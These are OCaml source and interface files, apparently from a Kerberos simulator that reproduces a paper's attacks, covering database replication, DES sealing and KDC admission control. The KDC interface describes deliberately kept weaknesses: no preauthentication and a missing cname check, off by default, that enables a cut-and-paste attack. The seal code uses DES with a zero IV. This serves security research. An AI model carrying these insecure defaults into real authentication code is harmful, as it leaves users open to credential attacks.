      for i = 0 to n - 1 do
        let v = Int64.to_int (Wire.Codec.Reader.i64 br) in
        let dump = Wire.Codec.Reader.lbytes br in
        if r.rep_mask.(i) then begin
          r.rep_db.shards.(i) <- entries_of_bytes dump;
          r.rep_db.versions.(i) <- v
        end
      done;
      Wire.Codec.Reader.expect_end br;
      r.rep_db.cross_realm_cache <- None;
      (* Retained frames are exactly the post-checkpoint suffix, so the
         checkpoint image stands for everything before them. *)
      r.rep_applied <- Wal.first_retained_lsn d.d_wal - 1;
      r.rep_catchups <- r.rep_catchups + 1;
      replica_apply r (Wal.ship_since d.d_wal ~lsn:r.rep_applied)

(* One shipping round: frames past the ack when the log still reaches
   back that far, checkpoint + tail when it does not. Returns the number
   of records materialized and refreshes the lag gauge. *)
let ship_to_replica r =
  let t = r.rep_primary in
  match t.durable with
  | None -> invalid_arg "Kdb.ship_to_replica: durability not enabled"
  | Some d ->
      let n =
        if r.rep_applied + 1 < Wal.first_retained_lsn d.d_wal then
          replica_catch_up r
        else replica_apply r (Wal.ship_since d.d_wal ~lsn:r.rep_applied)
      in
      (match r.rep_g_lag with
      | Some g -> Telemetry.Metrics.set g (float_of_int (replica_lag t r))
      | None -> ());
      n

let attach_replica ?telemetry ?shards t ~name =
  if t.durable = None then
    invalid_arg "Kdb.attach_replica: durability not enabled";
  let n = Array.length t.shards in
  let mask = Array.make n false in
  (match shards with
  | None -> Array.fill mask 0 n true
  | Some l ->
      if l = [] then invalid_arg "Kdb.attach_replica: empty shard list";
      List.iter
        (fun i ->
          if i < 0 || i >= n then
            invalid_arg "Kdb.attach_replica: shard out of range";
          mask.(i) <- true)
        l);
  let metrics = Option.map Telemetry.Collector.metrics telemetry in
  let r =
    { rep_name = name;
      rep_primary = t;
      rep_db = create ~shards:n ();
      rep_mask = mask;
      rep_applied = 0;
      rep_live = true;
      rep_records_applied = 0;
      rep_catchups = 0;
      rep_c_applied =
        Option.map (fun m -> Telemetry.Metrics.counter m "kdb.replica.applied")
          metrics;
      rep_g_lag =
        Option.map
          (fun m -> Telemetry.Metrics.gauge m ("kdb.replica.lag." ^ name))
          metrics }
  in
  ignore (replica_catch_up r : int);
  r

(* A replica crash loses its memory image and its replication cursor;
   only the handle (its identity in the pool) survives. *)
let replica_crash r =
  r.rep_live <- false;
  let n = Array.length r.rep_db.shards in
  r.rep_db.shards <- Array.init n (fun _ -> Hashtbl.create 32);
  r.rep_db.lookups <- Array.make n 0;
  r.rep_db.versions <- Array.make n 0;
  r.rep_db.cross_realm_cache <- None;
  r.rep_applied <- 0

(* Rejoin through the kprop reconcile machinery: compare per-shard
   versions and digests exactly as anti-entropy does, pull every
   divergent subscribed shard with a versioned install (the primary's
   higher version wins — LWW), then resume tailing from the primary's
   current head. *)
let replica_rejoin r =
  let t = r.rep_primary in
  if t.durable = None then
    invalid_arg "Kdb.replica_rejoin: durability not enabled";
  let pulled = ref 0 in
  Array.iteri
    (fun i covered ->
      if
        covered
        && (t.versions.(i) <> r.rep_db.versions.(i)
           || shard_digest t i <> shard_digest r.rep_db i)
      then begin
        replace_shard_from_bytes ~version:t.versions.(i) r.rep_db i
          (shard_to_bytes t i);
        incr pulled
      end)
    r.rep_mask;
  r.rep_applied <- head_lsn t;
  r.rep_live <- true;
  (match r.rep_g_lag with
  | Some g -> Telemetry.Metrics.set g 0.0
  | None -> ());
  !pulled
