(** Replica-aware read routing over a {!Kdb} primary and its attached
    read replicas — the serving half of the paper's master/slave database
    model. Each serving unit (the primary, plus one unit per replica)
    carries a one-server queue fed by a fixed per-lookup service time;
    {!read} routes to the eligible unit whose queue frees up soonest and
    returns the queueing + service delay the caller should charge the
    request. Staleness is bounded in WAL records: an ordinary read
    accepts a replica within [max_lag]; a {e fresh} read
    (password-change-sensitive paths) only within [fresh_floor],
    otherwise the primary serves it. Writes never pass through this
    module — they go to the primary and reach replicas via log
    shipping. *)

type t

val create :
  ?service_time:float ->
  ?max_lag:int ->
  ?fresh_floor:int ->
  ?telemetry:Telemetry.Collector.t ->
  Kdb.t ->
  t
(** A router over [primary] with only the primary in the pool.
    [service_time] (default 0) is the simulated cost of one lookup at a
    serving unit; [max_lag] (default 64) bounds ordinary reads,
    [fresh_floor] (default 0) bounds fresh ones. Routed-read counters
    ([routed_reads.<unit>]) and fallback counters land in [telemetry]
    when given. @raise Invalid_argument on negative parameters. *)

val primary : t -> Kdb.t

val add_replica : t -> Kdb.replica -> unit
(** Append a replica (created with {!Kdb.attach_replica}) to the pool.
    Pool order is attach order and is part of routing determinism.
    @raise Invalid_argument on a duplicate unit name. *)

val replicas : t -> Kdb.replica list

val read : t -> now:float -> ?fresh:bool -> Principal.t -> Kdb.entry option * float
(** Route one read at simulated time [now]. Returns the entry (replica
    misses fall back to the primary's answer, covering lazily
    materialized principals) and the delay — queue wait plus service
    time — the caller should apply before replying. [~fresh:true]
    restricts eligible replicas to lag <= [fresh_floor]. *)

val ship_all : t -> int
(** One WAL shipping round to every live replica; returns records
    materialized across the pool. *)

val max_lag_live : t -> int
(** Largest lag among live replicas (0 with none). *)

val staleness_bound : t -> int
(** The [max_lag] this router was created with. *)

val ship_if_lagged : ?fraction:float -> t -> int
(** The self-tuning shipping trigger: ship one round ({!ship_all}) iff
    some live replica's lag has reached [fraction] (default 0.5) of
    [max_lag]; otherwise do nothing and return 0. Checked at a cadence
    fast relative to the write rate, this keeps lag strictly inside the
    staleness bound without the fixed-cadence daemon's idle shipping.
    [fraction] 0.0 ships on every check (the fixed-cadence behaviour).
    @raise Invalid_argument when [fraction] is outside [0,1]. *)

val unit_reads : t -> (string * int) list
(** Reads served per unit, pool order — [("primary", _)] first. *)

val fresh_fallbacks : t -> int
(** Fresh reads the primary served while a lagging replica covered the
    shard — the price of the freshness floor. *)

val stale_fallbacks : t -> int
(** Ordinary reads the primary served because every covering replica
    exceeded [max_lag]. *)
