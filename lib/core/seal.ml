type scheme = Pcbc_raw | Cbc_confounder of Crypto.Checksum.kind

let of_profile (p : Profile.t) =
  match p.encoding with
  | Wire.Encoding.V4_adhoc -> Pcbc_raw
  | Wire.Encoding.Der_typed -> Cbc_confounder p.checksum

(* Both directions assemble the message directly in its final padded buffer
   ([Mode.create_padded]) and encrypt in place: no intermediate plaintext
   copy, no [Bytes.concat], and the key schedule comes from the process-wide
   memo ([Des.schedule_cached]) rather than being recomputed per message. *)

let seal scheme rng ~key plaintext =
  let k = Crypto.Des.schedule_cached key in
  match scheme with
  | Pcbc_raw ->
      let n = Bytes.length plaintext in
      let buf = Crypto.Mode.create_padded n in
      Bytes.blit plaintext 0 buf 0 n;
      Crypto.Mode.pcbc_encrypt_into k ~iv:Crypto.Mode.zero_iv ~src:buf ~dst:buf;
      buf
  | Cbc_confounder kind ->
      let confounder = Util.Rng.bytes rng 8 in
      let cksum_size = Crypto.Checksum.size kind in
      let n = Bytes.length plaintext in
      (* Checksum is computed over the body (confounder, zeroed checksum
         field, plaintext) then spliced in; padding is outside it. *)
      let body_len = 8 + cksum_size + n in
      let buf = Crypto.Mode.create_padded body_len in
      Bytes.blit confounder 0 buf 0 8;
      Bytes.fill buf 8 cksum_size '\000';
      Bytes.blit plaintext 0 buf (8 + cksum_size) n;
      let cksum = Crypto.Checksum.compute_sub kind ~key buf ~pos:0 ~len:body_len in
      Bytes.blit cksum 0 buf 8 cksum_size;
      Crypto.Mode.cbc_encrypt_into k ~iv:Crypto.Mode.zero_iv ~src:buf ~dst:buf;
      buf

let open_ scheme ~key ciphertext =
  let k = Crypto.Des.schedule_cached key in
  if Bytes.length ciphertext = 0 || Bytes.length ciphertext mod 8 <> 0 then
    Error "not a ciphertext"
  else
    match scheme with
    | Pcbc_raw -> (
        let plain = Bytes.create (Bytes.length ciphertext) in
        Crypto.Mode.pcbc_decrypt_into k ~iv:Crypto.Mode.zero_iv ~src:ciphertext ~dst:plain;
        match Crypto.Mode.unpad plain with
        | Some b -> Ok b
        | None -> Error "bad padding")
    | Cbc_confounder kind -> (
        let plain = Bytes.create (Bytes.length ciphertext) in
        Crypto.Mode.cbc_decrypt_into k ~iv:Crypto.Mode.zero_iv ~src:ciphertext ~dst:plain;
        match Crypto.Mode.unpad_length plain with
        | None -> Error "bad padding"
        | Some body_len ->
            let cksum_size = Crypto.Checksum.size kind in
            if body_len < 8 + cksum_size then Error "too short"
            else begin
              (* [plain] is ours: lift the checksum out, zero its field and
                 verify over the body in place. *)
              let expect = Bytes.sub plain 8 cksum_size in
              Bytes.fill plain 8 cksum_size '\000';
              let actual = Crypto.Checksum.compute_sub kind ~key plain ~pos:0 ~len:body_len in
              if Util.Bytesutil.equal actual expect then
                Ok (Bytes.sub plain (8 + cksum_size) (body_len - 8 - cksum_size))
              else Error "checksum mismatch"
            end)
