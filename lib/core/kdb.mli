(** The KDC's principal database. "Kerberos is secure if and only if it can
    protect other clients and servers, beginning only with the premise that
    these client and server keys are secret." This module holds those keys.

    The database is itself an experiment surface: the paper notes that
    without preauthentication "the Kerberos equivalent of /etc/passwd must
    be treated as public" — the database contents are what the
    password-guessing attacks try to reconstruct.

    The backend is hash-partitioned into {e shards} (principal name →
    shard, stable FNV-1a hash), so a realm serving "a fairly large user
    community" can be propagated shard-by-shard and load can be accounted
    per shard. A database created with [?shards:1] (the default) behaves
    exactly as the unsharded original. *)

type kind = User | Service | Cross_realm

type entry = { key : bytes; kind : kind }

type t

val create : ?shards:int -> unit -> t
(** [shards] (default 1) fixes the partition count for the database's
    lifetime. @raise Invalid_argument if [shards < 1]. *)

val add_user : t -> Principal.t -> password:string -> unit
(** Stores the password-derived key (the KDC never keeps the password). *)

val add_service : t -> Principal.t -> key:bytes -> unit
val add_cross_realm : t -> Principal.t -> key:bytes -> unit
val lookup : t -> Principal.t -> entry option
(** Also counts the access against the principal's shard, the raw
    material of the per-shard throughput numbers in [BENCH_load.json]. *)

val principals : t -> Principal.t list

val cross_realm_keys : t -> (Principal.t * bytes) list
(** The realm's cross-realm entries ([krbtgt.<us>@<neighbor>] keys),
    sorted by principal. Memoized: the TGS consults this set for every
    presented TGT, and a realm sized for "a fairly large user community"
    cannot afford a full-database scan per request. Any mutation
    (an [add_*] or a propagation swap) invalidates the memo. *)

val shard_count : t -> int

val shard_of : t -> Principal.t -> int
(** The shard this principal's entry lives in (whether or not the
    principal is present): FNV-1a of the principal string modulo
    {!shard_count} — deterministic across runs and processes, so master
    and slave agree on the partition. *)

val shard_lookups : t -> int array
(** Per-shard {!lookup} counts since creation (length {!shard_count}) —
    how evenly the hash spreads a realm's traffic. *)

val to_bytes : t -> bytes
(** Serialize the whole database — the payload of master→slave propagation
    (and precisely the blob whose theft equals total compromise, which is
    why kprop runs over [KRB_PRIV] and the master "must [have] strong
    physical security"). The format is shard-agnostic: a dump taken from
    an 8-shard master installs into a 2-shard slave. *)

val of_bytes : bytes -> t
(** @raise Wire.Codec.Decode_error *)

val shard_to_bytes : t -> int -> bytes
(** One shard's entries, same wire format as {!to_bytes} — the unit of
    incremental propagation ({!Services.Kprop.propagate_shard}).
    @raise Invalid_argument if the index is out of range. *)

val replace_shard_from_bytes : t -> int -> bytes -> unit
(** Atomically replace shard [i] from a {!shard_to_bytes} dump taken on a
    database with the {e same} shard count. The blob is decoded fully
    before anything becomes visible: on a decode error (a truncated or
    corrupted propagation) the shard keeps its previous contents — no
    half-swapped state, ever.
    @raise Wire.Codec.Decode_error on malformed input or if an entry does
    not belong in shard [i]
    @raise Invalid_argument if the index is out of range. *)

val replace_from : t -> t -> unit
(** [replace_from dst src] atomically swaps [dst]'s contents for [src]'s —
    the slave side of a propagation. [src]'s entries are re-partitioned
    into [dst]'s own shard count, and the swap is a single reference
    update: a lookup interleaved with an in-flight propagation sees either
    the old database or the new one, never an emptied or half-filled
    hybrid. *)

val size : t -> int

val shard_sizes : t -> int array
(** Entries per shard (length {!shard_count}) — how evenly FNV-1a spreads
    a registered population, as opposed to {!shard_lookups}, which follows
    the {e traffic} and concentrates on hot principals (the TGS's own
    entry, popular services). *)
