(** The KDC's principal database. "Kerberos is secure if and only if it can
    protect other clients and servers, beginning only with the premise that
    these client and server keys are secret." This module holds those keys.

    The database is itself an experiment surface: the paper notes that
    without preauthentication "the Kerberos equivalent of /etc/passwd must
    be treated as public" — the database contents are what the
    password-guessing attacks try to reconstruct.

    The backend is hash-partitioned into {e shards} (principal name →
    shard, stable FNV-1a hash), so a realm serving "a fairly large user
    community" can be propagated shard-by-shard and load can be accounted
    per shard. A database created with [?shards:1] (the default) behaves
    exactly as the unsharded original. *)

type kind = User | Service | Cross_realm

type entry = { key : bytes; kind : kind }

(** The per-shard write-ahead log. Records are appended {e before} the
    in-memory tables change and framed as [u32 len; u32 crc32; payload],
    so a log image captured at any crash instant replays to at least the
    state a reader could have observed, and a torn or bit-flipped tail is
    detected and cleanly truncated rather than crashing recovery. *)
module Wal : sig
  type op =
    | Put of string * entry
        (** A single-principal upsert (the [add_*] family). *)
    | Swap of bytes
        (** A whole-shard replacement — a propagation or reconcile
            install, carrying the full {!shard_to_bytes} dump. *)

  type record = {
    w_shard : int;    (** shard the mutation landed in *)
    w_version : int;  (** that shard's post-mutation version *)
    w_op : op;
  }

  type t

  val create : unit -> t
  val append : t -> record -> unit
  val length : t -> int
  (** Records currently held (post-truncation). *)

  val byte_size : t -> int
  val appended : t -> int
  (** Lifetime appends — unlike {!length}, never decreased by
      {!truncate_after_checkpoint}. *)

  val records : t -> record list
  val contents : t -> bytes
  (** The serialized log image — what a crash captures. *)

  val replay : bytes -> record list * int
  (** Parse a log image. Returns the records up to the first torn or
      CRC-failing frame, plus the number of trailing bytes discarded.
      Never raises: a corrupt log yields a shorter prefix, not an
      exception. *)

  val truncate_after_checkpoint : t -> versions:int array -> unit
  (** Drop every record a checkpoint at version vector [versions] already
      covers ([w_version <= versions.(w_shard)]). *)

  (** {2 Replication log}

      Every frame carries a log sequence number assigned at append time
      from the lifetime counter, so LSNs survive checkpoint truncation
      and give a replica a stable cursor into the primary's history. *)

  val head_lsn : t -> int
  (** LSN of the newest record ever appended (0 for an empty log). *)

  val first_retained_lsn : t -> int
  (** Oldest LSN still held, or [head_lsn + 1] when truncation has
      emptied the log — a replica applied to [first_retained_lsn - 1] or
      beyond can tail the log; anything older must catch up from the
      checkpoint. *)

  val ship_since : t -> lsn:int -> bytes
  (** Every retained frame with LSN strictly greater than [lsn], oldest
      first, each prefixed with its LSN:
      [i64 lsn; u32 len; u32 crc; payload] repeated. *)

  val replay_shipment : bytes -> (int * record) list * int
  (** Decode a {!ship_since} blob with the same torn-tail tolerance as
      {!replay}: the clean [(lsn, record)] prefix plus discarded trailing
      bytes. Never raises. *)
end

type t

val create : ?shards:int -> unit -> t
(** [shards] (default 1) fixes the partition count for the database's
    lifetime. @raise Invalid_argument if [shards < 1]. *)

val add_user : t -> Principal.t -> password:string -> unit
(** Stores the password-derived key (the KDC never keeps the password). *)

val add_service : t -> Principal.t -> key:bytes -> unit
val add_cross_realm : t -> Principal.t -> key:bytes -> unit
val lookup : t -> Principal.t -> entry option
(** Also counts the access against the principal's shard, the raw
    material of the per-shard throughput numbers in [BENCH_load.json]. *)

val principals : t -> Principal.t list

(** {2 Lazy materialization}

    A realm of a million principals does not need a million up-front
    [add_user] calls when only a fraction ever authenticate: a {e lazy
    provider} is consulted on a {!lookup} miss, and whatever it supplies
    is memoized in a side table. The shards — and with them every
    propagation, digest, WAL and reconciliation surface — hold only the
    explicitly registered population; materialized entries are serving
    state, not durable state. A later [add_*] of the same principal
    supersedes (and evicts) its memoized entry. *)

val set_lazy_provider : t -> (string -> entry option) -> unit
(** Install the provider. It receives the principal in
    {!Principal.to_string} form and must be deterministic: the same name
    always maps to the same entry, or the realm's keys depend on lookup
    order. *)

val lazy_materialized : t -> int
(** How many entries the provider has materialized so far. *)

val cross_realm_keys : t -> (Principal.t * bytes) list
(** The realm's cross-realm entries ([krbtgt.<us>@<neighbor>] keys),
    sorted by principal. Memoized: the TGS consults this set for every
    presented TGT, and a realm sized for "a fairly large user community"
    cannot afford a full-database scan per request. Any mutation
    (an [add_*] or a propagation swap) invalidates the memo. *)

val shard_count : t -> int

val shard_of : t -> Principal.t -> int
(** The shard this principal's entry lives in (whether or not the
    principal is present): FNV-1a of the principal string modulo
    {!shard_count} — deterministic across runs and processes, so master
    and slave agree on the partition. *)

val shard_lookups : t -> int array
(** Per-shard {!lookup} counts since creation (length {!shard_count}) —
    how evenly the hash spreads a realm's traffic. *)

val to_bytes : t -> bytes
(** Serialize the whole database — the payload of master→slave propagation
    (and precisely the blob whose theft equals total compromise, which is
    why kprop runs over [KRB_PRIV] and the master "must [have] strong
    physical security"). The format is shard-agnostic: a dump taken from
    an 8-shard master installs into a 2-shard slave. *)

val of_bytes : bytes -> t
(** @raise Wire.Codec.Decode_error *)

val shard_to_bytes : t -> int -> bytes
(** One shard's entries, same wire format as {!to_bytes} — the unit of
    incremental propagation ({!Services.Kprop.propagate_shard}).
    @raise Invalid_argument if the index is out of range. *)

val replace_shard_from_bytes : ?version:int -> t -> int -> bytes -> unit
(** Atomically replace shard [i] from a {!shard_to_bytes} dump taken on a
    database with the {e same} shard count. The blob is decoded fully
    before anything becomes visible: on a decode error (a truncated or
    corrupted propagation) the shard keeps its previous contents — no
    half-swapped state, ever. Without [?version] the swap counts as one
    local mutation (the shard's version increments); a reconcile install
    passes [~version] to adopt the winning replica's version instead.
    @raise Wire.Codec.Decode_error on malformed input or if an entry does
    not belong in shard [i]
    @raise Invalid_argument if the index is out of range. *)

val replace_from : t -> t -> unit
(** [replace_from dst src] atomically swaps [dst]'s contents for [src]'s —
    the slave side of a propagation. [src]'s entries are re-partitioned
    into [dst]'s own shard count, and the swap is a single reference
    update: a lookup interleaved with an in-flight propagation sees either
    the old database or the new one, never an emptied or half-filled
    hybrid. *)

val size : t -> int

val shard_sizes : t -> int array
(** Entries per shard (length {!shard_count}) — how evenly FNV-1a spreads
    a registered population, as opposed to {!shard_lookups}, which follows
    the {e traffic} and concentrates on hot principals (the TGS's own
    entry, popular services). *)

(** {2 Durability}

    The write-ahead log plus periodic checkpoints. Enable with
    {!enable_durability}; thereafter every mutation is logged
    append-before-apply, and {!disk_image} at any instant recovers (via
    {!recover}) to exactly the state a crash at that instant would
    strand. *)

val enable_durability : ?checkpoint_every:int -> t -> unit
(** Attach a WAL and take an initial checkpoint. [checkpoint_every = n]
    (default 0 = manual) takes a fresh checkpoint — and truncates the log
    — after every [n] mutations. *)

val durable : t -> bool

val checkpoint : t -> unit
(** Snapshot the current state and truncate the WAL behind it.
    @raise Invalid_argument if durability is not enabled. *)

val checkpoints_taken : t -> int

val wal : t -> Wal.t option

val disk_image : t -> (bytes * bytes) option
(** [(checkpoint, wal)] — what survives a crash. [None] when durability
    is off: such a database dies with its process. *)

val wipe : t -> unit
(** Model the crash itself: every table, version counter and the attached
    durable state vanish in place (the object identity survives — it is
    shared with routes and tests). Shard count is preserved. *)

val version_vector : t -> int array
(** Per-shard monotonic mutation counters (length {!shard_count}) — the
    vector anti-entropy reconciliation compares and WAL records carry. *)

val shard_digest : t -> int -> int
(** CRC-32 over the shard's deterministic sorted dump — equal digests
    mean byte-identical shard contents across replicas. *)

val digests : t -> int array

type recovery = {
  recovered : t;        (** fresh database: checkpoint + replayed WAL *)
  applied : int;        (** WAL records applied on top of the checkpoint *)
  skipped : int;        (** records the checkpoint already covered *)
  discarded_bytes : int (** torn/corrupt WAL tail dropped by CRC *)
}

val recover : checkpoint:bytes -> wal:bytes -> recovery
(** Rebuild from a {!disk_image}. The checkpoint must be intact (it is
    written atomically; @raise Wire.Codec.Decode_error if its CRC fails);
    the WAL may be torn or bit-flipped anywhere — replay stops cleanly at
    the first bad frame. Records the checkpoint already covers are
    skipped by version comparison, so replay is idempotent. *)

val restore : t -> recovery -> unit
(** Install a recovery into an existing database in place, adopting the
    recovered version vector as-is (no WAL logging — the recovery {e is}
    the log's effect). @raise Invalid_argument on shard count mismatch. *)

val head_lsn : t -> int
(** The primary's replication head — {!Wal.head_lsn} of the attached log.
    @raise Invalid_argument if durability is not enabled. *)

(** {2 Read replicas}

    The paper's master/slave database model, rebuilt on the WAL: a
    replica is a same-shard-count database fed by shipping log frames
    past its applied LSN (apply-before-ack — the ack never runs ahead of
    visible state), catching up via checkpoint + tail when the primary
    has truncated past its cursor, and rejoining after a crash through
    the same per-shard version/digest reconcile kprop anti-entropy uses.
    Replicas serve reads only; every write goes to the primary and
    reaches replicas through the log. *)

type replica

val attach_replica :
  ?telemetry:Telemetry.Collector.t -> ?shards:int list -> t -> name:string ->
  replica
(** Create a replica of [t] and bootstrap it from the current checkpoint
    plus the retained WAL tail. [?shards] restricts the subscription to
    the listed shard indices (default: all shards). With [?telemetry],
    applied records feed the [kdb.replica.applied] counter and shipping
    refreshes the [kdb.replica.lag.<name>] gauge.
    @raise Invalid_argument if durability is not enabled on [t], the
    shard list is empty, or an index is out of range. *)

val replica_name : replica -> string

val replica_db : replica -> t
(** The replica's own database — route read-only lookups here. *)

val replica_live : replica -> bool
val replica_applied_lsn : replica -> int

val replica_lag : t -> replica -> int
(** [head_lsn t - replica_applied_lsn r]: how many log records the
    replica has not yet acked (0 when durability is off). *)

val replica_covers : replica -> int -> bool
(** Whether the replica subscribes to the given shard index. *)

val replica_records_applied : replica -> int
(** Records materialized over the replica's lifetime. *)

val replica_catchups : replica -> int
(** Checkpoint+tail catch-ups taken, including the bootstrap one. *)

val ship_to_replica : replica -> int
(** One shipping round from the primary: frames past the replica's ack
    when the log still reaches back that far, checkpoint + tail when the
    primary has truncated beyond it. Returns the number of records
    materialized. @raise Invalid_argument if durability is not enabled. *)

val replica_crash : replica -> unit
(** Lose the replica's memory image and replication cursor in place (the
    handle survives, marked not live). *)

val replica_rejoin : replica -> int
(** Rejoin after a crash through the reconcile machinery: pull every
    subscribed shard whose version or digest diverges from the primary
    (versioned install — the primary wins), reset the cursor to the
    primary's head, and mark the replica live. Returns the number of
    shards pulled. @raise Invalid_argument if durability is not
    enabled. *)
