(** The Key Distribution Center: authentication server (AS) and
    ticket-granting server (TGS) in one network service, as in MIT
    Kerberos.

    Behaviour follows the profile faithfully, including the weaknesses:
    without [preauth], anyone may request an [AS_REP] for any user (grist
    for password-guessing mills); with [allow_enc_tkt_in_skey] /
    [allow_reuse_skey] the Draft 3 options are honoured with {e no} check
    that the enclosed ticket's client matches the requested server — the
    omission the paper's cut-and-paste attack exploits. *)

type t

val default_port : int
(** 750, as in V4. *)

(** Admission control — the overload plane's KDC half. Requests join a
    bounded queue drained by a virtual single server whose per-request
    cost is [base_service_time] plus the read router's queueing delay.
    Three strict-priority classes share the queue budget: {e high} (TGS
    exchanges — the sender demonstrably holds a TGT, so renewals stay
    alive under load) admits up to [queue_limit]; {e normal} (fresh
    AS_REQ) up to 3/4 of it; {e low} (traffic from suspect sources, see
    [suspect_rate]) up to 1/4. Past its class's share a request is
    answered — never silently dropped — with [KRB_ERR_BUSY] carrying a
    measured retry-after hint. At depth [brownout_at] the KDC enters
    {e brownout}: expensive work (preauth/DH-heavy AS exchanges,
    cross-realm TGS chases) is shed with busy while cheap same-realm
    work still queues. [suspect_rate] is the per-source requests/minute
    above which a source is demoted to the low class (demotion, not
    refusal — distinct from [rate_limit]'s hard per-source cap).
    [classes = false] collapses the scheduler to a single FIFO class with
    the full [queue_limit] — the queue-but-no-policy KDC the overload
    experiment's naive arm measures against. *)
type admission = {
  queue_limit : int;        (** total queued requests; > 0 *)
  base_service_time : float;(** seconds of KDC work per request; >= 0 *)
  brownout_at : int;        (** depth that sheds expensive work; 0 = off *)
  suspect_rate : int;       (** per-source req/min before demotion *)
  classes : bool;           (** strict-priority classes; false = one FIFO *)
}

val default_admission : admission
(** [{ queue_limit = 64; base_service_time = 0.001; brownout_at = 48;
      suspect_rate = 600; classes = true }]. *)

val create :
  ?seed:int64 ->
  ?enc_tkt_cname_check:bool ->
  ?verify_transit:bool ->
  ?rate_limit:int ->
  ?telemetry:Telemetry.Collector.t ->
  ?reads:Replication.t ->
  ?admission:admission ->
  ?replay_cap:int ->
  realm:string ->
  profile:Profile.t ->
  lifetime:float ->
  Kdb.t ->
  t
(** [reads] attaches a replica-aware read router (over the {e same}
    database — @raise Invalid_argument otherwise): AS/TGS database
    lookups spread across the primary + replica pool by observed load,
    the AS client-key lookup carries the freshness floor, and each
    exchange's reply is held by the accumulated queueing delay so an
    overloaded pool shows up as client-visible latency. Default: every
    lookup on the primary, free — the pre-replication behaviour.

    [rate_limit] caps AS requests accepted per source address per minute —
    "an enhancement to the server, to limit the rate of requests from a
    single source, may be useful" (the paper's partial mitigation for
    ticket harvesting). Default: unlimited.

    [enc_tkt_cname_check] (default [false], faithful to Draft 3) enables
    the rule the designers intended but omitted: with [ENC-TKT-IN-SKEY],
    "the cname in the additional ticket [must] match the name of the server
    for which the new ticket is being requested". Turning it on defeats the
    cut-and-paste attack even under a weak checksum.

    [telemetry] (default {!Telemetry.Collector.default}) receives a
    ["kdc.as_req"]/["kdc.tgs_req"] span per exchange, per-source AS_REQ
    tracking in the operator view, and the request counters as registry
    metrics named [kdc.<realm>.as_requests_served] etc. (suffixed [#2], …
    when several KDCs serve one realm).

    [admission] enables the overload-control plane (default: off — every
    request handled inline on arrival, the historical behaviour).
    Requests whose deadline envelope (see {!Messages.with_deadline}) has
    already expired when they reach the queue head are shed without a
    reply — the caller stopped listening — and counted/traced as
    [overload.deadline_shed].

    [replay_cap] bounds the TGS replay cache under authenticator floods
    ({!Replay_cache.create}'s [cap]); evictions land on the
    [kdc.<realm>.replay_cache.evicted] counter. Default: unbounded. *)

val realm : t -> string
val database : t -> Kdb.t

val add_realm_route : t -> remote:string -> next_hop:string -> unit
(** Static inter-realm routing: requests for [remote] are referred to the
    cross-realm principal for [next_hop]. The paper: "there is no
    discussion of how a TGS can determine which of its neighboring realms
    should be the next hop ... static tables ... have security
    limitations." *)

val install : Sim.Net.t -> Sim.Host.t -> t -> ?port:int -> unit -> unit

(** {2 Durability and crash recovery}

    Mirrors {!Apserver.crash}/[restart], but for the state that actually
    matters realm-wide: the principal database. With durability enabled
    the database logs every mutation append-before-apply
    ({!Kdb.enable_durability}); a crash captures the checkpoint + WAL
    disk image and the TGS replay-cache snapshot, and a restart recovers
    by checkpoint load + WAL replay (torn or bit-flipped tails are
    CRC-truncated, never fatal) and prunes expired replay entries. *)

val enable_durability : ?checkpoint_every:int -> t -> unit
(** Attach a WAL to the KDC's database and take an initial checkpoint.
    [checkpoint_every] as in {!Kdb.enable_durability}. *)

val crash : t -> unit
(** Stop listening and lose all in-memory state. Only meaningful after
    {!install} (a KDC that never listened has nothing to crash). Without
    durability the database itself is lost — the paper's single point of
    failure, reproduced. *)

val restart : t -> unit
(** Recover from the disk image captured at crash time and listen again
    on the same port. No-op if already running. *)

val running : t -> bool

type recovery_info = {
  wal_applied : int;        (** WAL records replayed on top of the checkpoint *)
  wal_skipped : int;        (** records the checkpoint already covered *)
  wal_discarded_bytes : int;(** torn/corrupt WAL tail truncated by CRC *)
  replay_entries : int;     (** TGS replay-cache entries still live at restart *)
}

val last_recovery : t -> recovery_info option
(** What the most recent {!restart} had to do, [None] before any
    recovery. *)

val recoveries : t -> int
(** Lifetime recovery count (the [kdc.<realm>.recoveries] counter). *)

(** Statistics for the experiments — thin wrappers over the registry
    counters the KDC records into (the historical interface, kept). *)

val as_requests_served : t -> int
val preauth_rejections : t -> int
val rate_limited_requests : t -> int

(** {2 Overload-plane statistics} *)

val admission_arrived : t -> int
(** Requests that reached admission control (decodable AS/TGS traffic). *)

val admission_processed : t -> int
(** Requests actually served from the queue. The zero-silent-drop
    identity: [arrived = processed + busy_rejections + brownout_sheds +
    deadline_sheds + admission_queue_depth]. *)

val busy_rejections : t -> int
(** Requests answered [KRB_ERR_BUSY] because their class's queue share
    was full. *)

val brownout_sheds : t -> int
(** Expensive requests answered [KRB_ERR_BUSY] by brownout (counted
    separately from class-limit rejections). *)

val deadline_sheds : t -> int
(** Requests dropped at the queue head because their propagated deadline
    had already passed — no reply, but traced. *)

val admission_queue_depth : t -> int
(** Requests currently queued across all three classes. *)

val replay_evictions : t -> int
(** TGS replay-cache entries evicted by [replay_cap]
    (the [kdc.<realm>.replay_cache.evicted] counter). *)
