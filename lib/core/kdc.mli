(** The Key Distribution Center: authentication server (AS) and
    ticket-granting server (TGS) in one network service, as in MIT
    Kerberos.

    Behaviour follows the profile faithfully, including the weaknesses:
    without [preauth], anyone may request an [AS_REP] for any user (grist
    for password-guessing mills); with [allow_enc_tkt_in_skey] /
    [allow_reuse_skey] the Draft 3 options are honoured with {e no} check
    that the enclosed ticket's client matches the requested server — the
    omission the paper's cut-and-paste attack exploits. *)

type t

val default_port : int
(** 750, as in V4. *)

val create :
  ?seed:int64 ->
  ?enc_tkt_cname_check:bool ->
  ?verify_transit:bool ->
  ?rate_limit:int ->
  ?telemetry:Telemetry.Collector.t ->
  ?reads:Replication.t ->
  realm:string ->
  profile:Profile.t ->
  lifetime:float ->
  Kdb.t ->
  t
(** [reads] attaches a replica-aware read router (over the {e same}
    database — @raise Invalid_argument otherwise): AS/TGS database
    lookups spread across the primary + replica pool by observed load,
    the AS client-key lookup carries the freshness floor, and each
    exchange's reply is held by the accumulated queueing delay so an
    overloaded pool shows up as client-visible latency. Default: every
    lookup on the primary, free — the pre-replication behaviour.

    [rate_limit] caps AS requests accepted per source address per minute —
    "an enhancement to the server, to limit the rate of requests from a
    single source, may be useful" (the paper's partial mitigation for
    ticket harvesting). Default: unlimited.

    [enc_tkt_cname_check] (default [false], faithful to Draft 3) enables
    the rule the designers intended but omitted: with [ENC-TKT-IN-SKEY],
    "the cname in the additional ticket [must] match the name of the server
    for which the new ticket is being requested". Turning it on defeats the
